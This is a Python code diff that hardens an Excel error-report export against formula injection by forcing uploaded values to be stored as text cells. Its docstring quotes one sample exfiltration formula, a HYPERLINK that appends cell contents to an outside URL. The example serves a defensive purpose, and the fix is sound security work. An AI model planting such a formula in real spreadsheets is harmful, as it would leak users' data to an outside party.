@@ -14,7 +14,9 @@ from pathlib import Path
 
 import polars as pl
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
+from openpyxl.worksheet._write_only import WriteOnlyWorksheet
 from sqlalchemy.orm import Session
 
 from xueji.auth.service import Principal
@@ -83,10 +85,22 @@ def error_report(path: Path, reasons: dict[int, str]) -> bytes:
     wanted = pl.Series(list(reasons), dtype=pl.Int64)
     with read_chunks(path) as chunks:
         for chunk in chunks:
-            for values in chunk.filter(pl.col("row").is_in(wanted)).iter_rows(named=True):
+            for values in chunk.filter(pl.col("row").is_in(wanted.implode())).iter_rows(named=True):
                 row = values["row"]
-                sheet.append([*(values[key] for key in COLUMNS), reasons[row], row])
+                texts = [values[key] for key in COLUMNS]
+                sheet.append([*(as_text(sheet, value) for value in texts), reasons[row], row])
     return _save(workbook)
+
+
+def as_text(sheet: WriteOnlyWorksheet, value: str | None) -> WriteOnlyCell | None:
+    """A cell holding ``value`` as text, never as a formula: an uploaded cell such as
+    ``=HYPERLINK("http://…?d="&A3)`` comes back exactly as typed, and no spreadsheet
+    evaluates it when the report is opened (OWASP: CSV and formula injection)."""
+    if value is None:
+        return None
+    cell = WriteOnlyCell(sheet, value=value)
+    cell.data_type = "s"
+    return cell
 
 
 def _save(workbook: Workbook) -> bytes:
